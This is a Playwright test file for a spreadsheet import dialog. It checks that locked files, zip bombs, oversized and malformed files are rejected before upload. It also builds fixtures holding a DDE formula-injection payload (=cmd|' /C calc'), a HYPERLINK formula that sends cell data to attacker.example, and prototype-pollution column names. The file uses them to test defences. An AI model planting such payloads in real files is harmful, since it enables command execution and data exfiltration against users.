// Files that cannot be imported, or that try to be more than rows: each is said at its place before a byte is sent, and
// neither the page nor what was chosen beside the file is lost.
import { open, rm, writeFile } from 'node:fs/promises'
import { utils, write } from '@e965/xlsx'
import type { Page } from '@playwright/test'
import { choose, expectChosen } from '../support/pages/choice.ts'
import { CustomerListPage } from '../support/pages/customer-list-page.ts'
import { type MadeFile, madeSheet } from '../support/sheets.ts'
import { expect, openImport, test, words } from './office.ts'

const headers = ['客户名称', '客户级别']
const named = (name: string, buffer: Buffer): MadeFile => ({ name, mimeType: '', buffer })

/** What an office's program writes of a file with a password: an OLE container around the encrypted package. */
const protectedFile = (name: string): MadeFile => {
  const bytes = Buffer.alloc(4096)
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
  bytes.write('EncryptedPackage', 1024, 'utf16le')
  return named(name, bytes)
}

/** A small file whose parts say that they unpack to more than two gigabytes each. */
const bomb = (name: string): MadeFile => {
  const { buffer } = madeSheet(name, [headers, ['甲公司', 'A级']])
  for (let at = buffer.indexOf('PK\x01\x02', 0, 'latin1'); at >= 0; at = buffer.indexOf('PK\x01\x02', at + 1, 'latin1'))
    buffer.writeUInt32LE(0x7fffffff, at + 24)
  return named(name, buffer)
}

/** A small file with one cell far beyond its data: whoever shows it would have every column in between. */
const stray = (name: string): MadeFile => {
  const book = utils.book_new()
  const sheet = utils.aoa_to_sheet([headers, ['甲公司', 'A级']])
  utils.book_append_sheet(book, { ...sheet, '!ref': 'A1:AAA1000', AAA1000: { t: 's', v: '远' } }, '客户')
  const bytes = Buffer.from(write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer).toString('latin1')
  return named(name, Buffer.from(bytes.replaceAll('AAA1000', 'XFD9999'), 'latin1'))
}

/** A workbook with cells in A1 style; formulas keep their value beside them. */
const withFormulas = (name: string): MadeFile => {
  const book = utils.book_new()
  const sheet = utils.aoa_to_sheet([
    ['客户名称', '客户级别', '__proto__', 'constructor', 'toString'],
    ['公式测试公司', 'A级', '一', '二', '三'],
    ["=cmd|' /C calc'!A0", 'B级', '四', '五', '六'],
  ])
  Object.assign(sheet.B2 as object, { f: 'HYPERLINK("http://attacker.example/?"&A2,"A级")', v: 'A级' })
  utils.book_append_sheet(book, sheet, '客户')
  return named(name, Buffer.from(write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer))
}

/** Every call by which the page would hand a file over. */
const handedOver = (page: Page): string[] => {
  const sent: string[] = []
  page.on('request', (request) => {
    if (request.method() !== 'GET') sent.push(request.url())
  })
  return sent
}

test('IM-02 IM-05 ER-07 a page, a text, a locked file, a bomb and 100 MB are each said at the file, and nothing else is lost', async ({
  page,
  office,
}, testInfo) => {
  const dialog = await openImport(page, office)
  const sent = handedOver(page)
  await dialog.phase('已签约').check()
  await dialog.mode('覆盖更新').check()
  await choose(dialog.category, '诉讼客户')
  await dialog.tag('高意向').check()
  const huge = testInfo.outputPath('一百兆.xls')
  const handle = await open(huge, 'w')
  await handle.truncate(100 * 1024 * 1024)
  await handle.close()
  const html = '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><table><tr><td>客户名称</td></tr></table></html>'
  const cases: readonly (readonly [MadeFile | string, string])[] = [
    [named('导出.xls', Buffer.from(`\ufeff${html}`)), words['import.problem.html']],
    [named('名单.xls', Buffer.from('客户名称,客户级别\n甲公司,A级\n')), words['import.problem.text']],
    [protectedFile('加密.xls'), words['import.problem.encrypted']],
    [protectedFile('加密.xlsx'), words['import.problem.encrypted']],
    [bomb('炸弹.xlsx'), words['import.problem.too-large']],
    [stray('范围.xlsx'), words['import.problem.too-wide']],
    [huge, words['import.size']],
    [
      named('截断.xlsx', madeSheet('截断.xlsx', [headers, ['甲公司', 'A级']]).buffer.subarray(0, 900)),
      words['import.problem.unknown'],
    ],
  ]
  for (const [file, sentence] of cases) {
    if (typeof file === 'string') await dialog.takeFrom(file)
    else await dialog.take(file)
    await expect(dialog.zone.locator('..').getByRole('alert')).toHaveText(sentence)
    await dialog.submit.click()
    await expect(dialog.step).toHaveText('导入设置')
    await expect(dialog.alerts).toHaveText(sentence)
  }
  expect(sent).toEqual([])
  await expect(dialog.phase('已签约')).toBeChecked()
  await expect(dialog.mode('覆盖更新')).toBeChecked()
  await expectChosen(dialog.category, '诉讼客户')
  await expect(dialog.tag('高意向')).toBeChecked()
  // A sound file takes the place of the last bad one, with all that was chosen.
  await dialog.take(madeSheet('好的.xlsx', [headers, ['坏文件之后的公司', 'A级']]))
  await expect(dialog.check).toHaveText(words['import.fine'])
  await dialog.submit.click()
  await expect(dialog.counts.first()).toHaveText('新增 1 条')
})

test('ER-07 a file that was saved again or moved away since it was chosen is said at the file, and chosen again', async ({
  page,
  office,
}, testInfo) => {
  const dialog = await openImport(page, office)
  const sent = handedOver(page)
  await choose(dialog.category, '诉讼客户')
  const path = testInfo.outputPath('名单.xlsx')
  const write = (name: string) => writeFile(path, madeSheet('名单.xlsx', [headers, [name, 'A级']]).buffer)
  await write('第一稿公司')
  await dialog.takeFrom(path)
  await expect(dialog.preview).toContainText('第一稿公司')
  await write('第二稿有限责任公司')
  await dialog.submit.click()
  const said = dialog.zone.locator('..').getByRole('alert')
  await expect(said).toHaveText(words['import.problem.unreadable'])
  await expect(dialog.preview).toHaveCount(0)
  expect(sent).toEqual([])
  // What is chosen reaches the worker only once the file has gone.
  await page.evaluate(() => {
    const post = Worker.prototype.postMessage
    const gone = new Promise<void>((go) => Object.assign(window, { go }))
    Worker.prototype.postMessage = function (message: unknown) {
      void gone.then(() => post.call(this, message))
    }
  })
  await dialog.takeFrom(path)
  await expect(dialog.zone).toContainText('名单.xlsx')
  await rm(path)
  await page.evaluate(() => (window as unknown as { go: () => void }).go())
  await expect(said).toHaveText(words['import.problem.unreadable'])
  await write('第三稿公司')
  await dialog.takeFrom(path)
  await expect(dialog.preview).toContainText('第三稿公司')
  await expectChosen(dialog.category, '诉讼客户')
  await dialog.submit.click()
  await expect(dialog.step).toHaveText('导入结果')
  await expect(dialog.counts.first()).toHaveText('新增 1 条')
})

test('IM-04 IM-12 formulas are texts and values, and a column named as a part of JavaScript is a column like others', async ({
  page,
  office,
}) => {
  const dialog = await openImport(page, office)
  await dialog.take(withFormulas('公式.xlsx'))
  await expect(dialog.preview).toContainText('2 行数据')
  await expect(dialog.preview).toContainText('使用 2 / 5 列')
  for (const name of ['__proto__', 'constructor', 'toString'])
    await expectChosen(dialog.column(name), words['import.leaveOut'])
  await expect(dialog.preview).toContainText("=cmd|' /C calc'!A0")
  await expect(dialog.preview).not.toContainText('HYPERLINK')
  await expect(dialog.preview.getByRole('link')).toHaveCount(0)
  // The column can be given a field like any other.
  await choose(dialog.column('__proto__'), '案情摘要')
  await expect(dialog.preview).toContainText('使用 3 / 5 列')
  await choose(dialog.category, '诉讼客户')
  await dialog.submit.click()
  await expect(dialog.counts).toHaveText(['新增 2 条', '更新 0 条', '跳过 0 条', '失败 0 条'])
  await dialog.root.getByRole('button', { name: '完成' }).click()
  await (await new CustomerListPage(page).find('公式测试公司')).getByRole('link').click()
  await expect(page.locator('dl > div').filter({ hasText: '案情摘要' })).toContainText('一')
})
